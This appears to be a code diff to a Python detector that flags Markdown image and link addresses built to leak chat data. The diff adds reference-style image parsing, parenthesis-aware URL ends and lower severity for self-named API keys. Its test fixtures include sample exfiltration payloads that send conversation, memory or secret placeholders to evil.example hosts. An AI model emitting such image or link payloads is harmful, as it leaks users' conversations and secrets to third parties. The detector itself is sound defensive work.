@@ -16,7 +16,8 @@ _IMAGE = lazy(
     r"!\[[^\]\n]{0,300}\]\(\s{0,3}<?((?:https?:)?//[^\s\n\"<]{4,2000})|<img\b[^<>]{0,400}?\bsrc\s{0,3}=\s{0,3}[\"']?((?:https?:)?//[^\s\"'<>]{4,2000})",
     re.I,
 )
-_REFERENCE_IMAGE = lazy(r"^ {0,3}\[[^\]\n]{1,100}\]:[ \t]*<?((?:https?:)?//[^\s<>]{4,2000})", re.M | re.I)
+_REFERENCE_IMAGE = lazy(r"^ {0,3}\[([^\]\n]{1,100})\]:[ \t]*<?((?:https?:)?//[^\s<>]{4,2000})", re.M | re.I)
+_IMAGE_LABEL = lazy(r"!\[([^\]\n]{0,300})\](?:\[([^\]\n]{0,100})\])?(?!\()")
 _ADDRESS = lazy(r"\bhttps?://[^\s\"'`]{6,2000}", re.I)
 _HOLE = lazy(
     r"\{\{?[^{}\n]{0,60}\}?\}|\$\{?\w{1,40}\}?|<[\w .:-]{2,60}>|\[[\w .:-]{3,60}\]|%7b[^%\n]{0,60}%7d|%s\b|__\w{2,30}__",
@@ -36,6 +37,7 @@ _PAYLOAD = lazy(
     r"[?&][\w.-]{1,30}=(?:SECRET|DATA|TOKEN|API_?KEY|PASSWORD|CONTENT|HISTORY|PROMPT|B64|BASE64|INSERT\w*|YOUR_\w+|XXX+)\b"
 )
 _LONG_VALUE = lazy(r"[?&][\w.-]{1,30}=(?:[A-Za-z0-9+_-]{80,}|(?:%[0-9A-F]{2}|[\w.+-]){160,})", re.I)
+_KEY_OF = lazy(r"\$\{?([A-Z]{4,20})_[A-Z_]{0,20}(?:KEY|TOKEN)\}?")
 _EMPTY_VALUE = lazy(r"[?&](?:q|d|data|k|key|s|c|m|msg|text|leak|x|info|p|payload|content|t|token)=$", re.I)
 _BADGE = lazy(
     r"^(?:https?:)?//(?:[\w-]+\.)?(?:shields\.io|badgen\.net|badge\.fury\.io|codecov\.io|coveralls\.io|img\.shields\.io|"
@@ -51,24 +53,57 @@ def detect(text: Text) -> Iterator[Match]:
     if "//" not in raw:
         return
     taken = Spans()
-    for pattern in (_IMAGE, _REFERENCE_IMAGE):
-        for match in pattern.finditer(raw):
-            group = next(g for g in range(1, (match.lastindex or 1) + 1) if match.group(g))
-            address = match.group(group).rstrip(")")
-            why = _of_image(address)
-            if why:
-                taken.claim(*match.span(group))
-                start = match.start(group)
-                yield Match(
-                    "exfiltration-image", Severity.BLOCK, start, start + len(address), f"an image whose address {why}"
-                )
+    for start, end in _images(raw):
+        why = _of_image(raw[start:end])
+        if why:
+            taken.claim(start, end)
+            yield Match("exfiltration-image", Severity.BLOCK, start, end, f"an image whose address {why}")
     for match in _ADDRESS.finditer(raw):
         if not taken.is_free(match.start(), match.start() + 1):
             continue
-        why = _of_link(match.group())
+        start, end = match.start(), _end(raw, *match.span())
+        why = _of_link(raw[start:end])
         if why:
-            taken.claim(*match.span())
-            yield Match("exfiltration-link", Severity.BLOCK, *match.span(), f"an address that {why}")
+            taken.claim(start, end)
+            severity = Severity.WARN if _is_its_own(raw[start:end]) else Severity.BLOCK
+            yield Match("exfiltration-link", severity, start, end, f"an address that {why}")
+
+
+def _images(raw: str) -> Iterator[tuple[int, int]]:
+    """The spans of the addresses of images; a reference definition is one where an image names it."""
+    for match in _IMAGE.finditer(raw):
+        start, end = match.span(1) if match.group(1) else match.span(2)
+        yield start, _end(raw, start, end)
+    labels = {_label(match[2] or match[1]) for match in _IMAGE_LABEL.finditer(raw)} if "![" in raw else set()
+    for match in _REFERENCE_IMAGE.finditer(raw) if labels else ():
+        if _label(match[1]) in labels:
+            yield match.span(2)
+
+
+def _label(words: str) -> str:
+    """A label of a reference as Markdown compares it."""
+    return " ".join(words.split()).casefold()
+
+
+def _end(raw: str, start: int, end: int) -> int:
+    """Where an address ends: the destination of a link at the parenthesis that closes it."""
+    if raw[start - 1 : start] != "(":
+        return start + len(raw[start:end].rstrip(")"))
+    depth = 0
+    for at in range(start, end):
+        depth += (raw[at] == "(") - (raw[at] == ")")
+        if depth < 0:
+            return at
+    return end
+
+
+def _is_its_own(address: str) -> bool:
+    """Whether all that an address asks for are keys named like the service it leads to: `googleapis.com/?key=$GOOGLE_API_KEY`."""
+    host, _, tail = address.split("//", 1)[1].partition("/")
+    domain = ".".join(host.lower().rsplit(".", 2)[-2:])
+    holes = [hole.group() for hole in _HOLE.finditer(unquoted(tail)) if _GRAVE.search(hole.group())]
+    named = [_KEY_OF.fullmatch(hole) for hole in holes]
+    return bool(named) and all([match is not None and domain.startswith(match[1].lower()) for match in named])
 
 
 def _of_image(address: str) -> str:
@@ -105,11 +140,15 @@ EXAMPLES: dict[str, Examples] = {
             "![x](https://a.example/p.png?d={{conversation}})",
             "![통계](https://203.0.113.9/a.gif?k=SECRET)",
             '<img src="https://evil.example/i?q=${memory}">',
+            "[![a](https://evil.example/?d={{chat}})](https://example.com)",
+            "![a][p]\n\n[P]: https://evil.example/p.png?d={{conversation}}",
         ),
         allow=(
             "![build](https://github.com/acme/app/actions/workflows/ci.yml/badge.svg?branch=main)",
             "![빌드](https://img.shields.io/badge/build-{status}-green)",
             "![chart](https://example.com/chart.png?width=640)",
+            "[![deploy](https://example.com/button)](https://example.com/new?env=PAYLOAD_SECRET&stores=%5B%7B%22type%22:%22blob%22%7D%5D)",
+            "[file]: https://example.com/issues/new?labels=bug&title=%5BBUG%5D%3A+",
         ),
     ),
     "exfiltration-link": Examples(
